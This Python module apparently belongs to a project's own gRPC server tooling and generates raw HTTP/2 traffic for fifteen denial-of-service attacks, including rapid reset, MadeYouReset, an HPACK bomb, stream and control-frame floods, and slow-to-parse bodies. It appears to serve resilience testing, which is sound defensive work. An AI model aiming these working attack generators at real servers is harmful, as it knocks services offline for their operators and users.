"""The bytes that each attack on an HTTP/2 server of gRPC sends over one connection.

An attack is a generator. Its first item opens the connection and lays the ground, each further item is one step of the
attack, without end. Every attack takes `message`, a message of the attacked method that the server answers.
"""

from collections.abc import Callable, Iterator, Mapping
from itertools import count
from struct import pack
from typing import Final

from hpack import Encoder

from epp.extproc.front import PATH
from epp.extproc.http2 import frames as h2
from epp.extproc.http2.frames import ErrorCode, Setting, frame
from epp.extproc.http2.headers import MAX_BLOCK_BYTES, write_headers
from epp.extproc.protocol.external_processor_pb2 import HttpBody, ProcessingRequest

Attack = Callable[[bytes], Iterator[bytes]]

# Streams that the attacks keep open, a little below the server's limit.
STREAMS: Final = 15_000
# Settings that fit in a frame.
SETTINGS_IN_A_FRAME: Final = h2.MAX_FRAME_BYTES // 6
# Streams that are dealt with in one step of the floods of streams.
_STREAMS_A_STEP: Final = 100
_EMPTY: Final = pack(">BI", 0, 0)
_COMPRESSED: Final = pack(">BI", 1, 0)
_ACK: Final = frame(h2.SETTINGS, h2.ACK, 0, b"")
_FAULTY_UPDATE: Final = 0


def request_headers(path: str = PATH) -> list[tuple[str, str]]:
    """Return the headers of a gRPC request."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


_REQUEST: Final = write_headers(request_headers())


def preface(settings: Mapping[Setting, int] | None = None) -> bytes:
    """Return what a client sends first."""
    return h2.PREFACE + h2.settings_frame(settings or {}) + _ACK


def grpc_message(message: bytes) -> bytes:
    """Return an uncompressed gRPC message."""
    return pack(">BI", 0, len(message)) + message


def open_stream(stream_id: int, block: bytes = _REQUEST, flags: int = h2.END_HEADERS) -> bytes:
    return frame(h2.HEADERS, flags, stream_id, block)


def send(stream_id: int, data: bytes, *, end: bool = False) -> bytes:
    return frame(h2.DATA, h2.END_STREAM if end else 0, stream_id, data)


def rapid_reset(message: bytes) -> Iterator[bytes]:
    """Open streams, and reset each at once (CVE-2023-44487)."""
    yield preface()
    yield from _of_streams(lambda n: open_stream(n) + h2.rst_stream(n, ErrorCode.CANCEL))


def rapid_reset_with_empty_messages(message: bytes) -> Iterator[bytes]:
    """Do the same, with an empty message on each stream."""
    yield preface()
    yield from _of_streams(lambda n: open_stream(n) + send(n, _EMPTY) + h2.rst_stream(n, ErrorCode.CANCEL))


def made_you_reset(message: bytes) -> Iterator[bytes]:
    """Have the server reset each stream, by a fault, after an empty message (CVE-2025-8671)."""
    yield preface()
    yield from _of_streams(lambda n: open_stream(n) + send(n, _EMPTY) + h2.window_update(n, _FAULTY_UPDATE))


def unknown_methods(message: bytes) -> Iterator[bytes]:
    """Call methods that don't exist."""
    yield preface()
    block = write_headers(request_headers("/no.Service/Method"))
    yield from _of_streams(lambda n: open_stream(n, block) + send(n, grpc_message(message), end=True))


def huffman_flood(message: bytes) -> Iterator[bytes]:
    """Send large headers in Huffman's code, which differ from stream to stream."""
    yield preface()
    encoder = Encoder()
    encoder.header_table_size = 0
    # Zeros have one of the shortest codes, of 5 bits. The block is nearly as large as the server takes.
    size = (MAX_BLOCK_BYTES - 500) * 8 // 5
    for n in count(1, 2):
        block = encoder.encode([*request_headers(), ("x", f"{n:0{size}}")], huffman=True)
        yield open_stream(n, block, h2.END_HEADERS | h2.END_STREAM)


def hpack_bomb(message: bytes) -> Iterator[bytes]:
    """Name a large header of the dynamic table again and again, with one byte each."""
    yield preface()
    large = Encoder().encode([*request_headers(), ("x", "y" * 3_900)], huffman=False)
    newest = b"\xbe"
    yield open_stream(1, large, h2.END_HEADERS | h2.END_STREAM)
    for n in count(3, 2):
        yield open_stream(n, _REQUEST + newest * 12_000, h2.END_HEADERS | h2.END_STREAM)


def settings_resize(message: bytes) -> Iterator[bytes]:
    """Resize the windows of many streams, as often as a frame can."""
    yield preface() + _open_many(message)
    sizes = [h2.DEFAULT_WINDOW_BYTES, h2.DEFAULT_WINDOW_BYTES - 1] * (SETTINGS_IN_A_FRAME // 2)
    payload = b"".join(pack(">HI", Setting.INITIAL_WINDOW_SIZE, size) for size in sizes)
    while True:
        yield frame(h2.SETTINGS, 0, 0, payload)


def zero_window_drip(message: bytes) -> Iterator[bytes]:
    """Leave many answers unread behind closed windows, and open the connection's window in small steps."""
    yield preface({Setting.INITIAL_WINDOW_SIZE: 0}) + _open_many(message)
    while True:
        yield h2.window_update(0, 1_024)


def ping_with_empty_messages(message: bytes) -> Iterator[bytes]:
    """Send PINGs, and an empty message now and then."""
    yield preface() + open_stream(1)
    while True:
        yield frame(h2.PING, 0, 0, bytes(8)) * 500 + send(1, _EMPTY)


def settings_with_empty_messages(message: bytes) -> Iterator[bytes]:
    """Send empty SETTINGS, and an empty message now and then."""
    yield preface() + open_stream(1)
    while True:
        yield h2.settings_frame({}) * 500 + send(1, _EMPTY)


def empty_data(message: bytes) -> Iterator[bytes]:
    """Send empty DATA on streams that the server has ended."""
    streams = range(1, 600, 2)
    yield preface() + b"".join(open_stream(n) + send(n, _COMPRESSED) for n in streams)
    while True:
        yield b"".join(send(n, b"") for n in streams)


def faulty_messages(message: bytes) -> Iterator[bytes]:
    """Send messages that the server can't take."""
    yield preface()
    yield from _of_streams(lambda n: open_stream(n) + send(n, _COMPRESSED))


def tiny_messages(message: bytes) -> Iterator[bytes]:
    """Pack as many empty messages as possible in each frame."""
    yield preface() + open_stream(1)
    while True:
        yield send(1, _EMPTY * (h2.MAX_FRAME_BYTES // len(_EMPTY)))


def partial_messages(message: bytes) -> Iterator[bytes]:
    """Announce large messages on many streams, and never finish them."""
    announced = pack(">BI", 0, 60 << 20)
    yield preface() + b"".join(open_stream(n) + send(n, announced) for n in range(1, 2 * 1_000, 2))
    piece = bytes(h2.MAX_FRAME_BYTES)
    while True:
        for n in range(1, 2 * 1_000, 2):
            yield send(n, piece)


def large_bodies(message: bytes) -> Iterator[bytes]:
    """Send bodies of 300,000 objects, which are the slowest to parse, within a stream's window."""
    body = b'{"model":"m","messages":[{"content":[' + b"{}," * 300_000 + b"{}]}]}"
    request = ProcessingRequest(request_body=HttpBody(body=body, end_of_stream=True))
    yield preface()
    data = grpc_message(message) + grpc_message(request.SerializeToString())
    pieces = [data[start : start + h2.MAX_FRAME_BYTES] for start in range(0, len(data), h2.MAX_FRAME_BYTES)]
    for n in count(1, 2):
        yield open_stream(n) + b"".join(send(n, piece) for piece in pieces)


ATTACKS: Final[Mapping[str, Attack]] = {
    "rapid reset": rapid_reset,
    "rapid reset with empty messages": rapid_reset_with_empty_messages,
    "MadeYouReset": made_you_reset,
    "HPACK bomb": hpack_bomb,
    "Huffman flood": huffman_flood,
    "SETTINGS resize": settings_resize,
    "SETTINGS with empty messages": settings_with_empty_messages,
    "PING with empty messages": ping_with_empty_messages,
    "empty DATA": empty_data,
    "faulty messages": faulty_messages,
    "unknown methods": unknown_methods,
    "zero-window drip": zero_window_drip,
    "tiny messages": tiny_messages,
    "partial messages": partial_messages,
    "large bodies": large_bodies,
}


def _open_many(message: bytes) -> bytes:
    data = grpc_message(message)
    return b"".join(open_stream(n) + send(n, data) for n in range(1, 2 * STREAMS, 2))


def _of_streams(frames: Callable[[int], bytes]) -> Iterator[bytes]:
    for first in count(1, 2 * _STREAMS_A_STEP):
        yield b"".join(map(frames, range(first, first + 2 * _STREAMS_A_STEP, 2)))
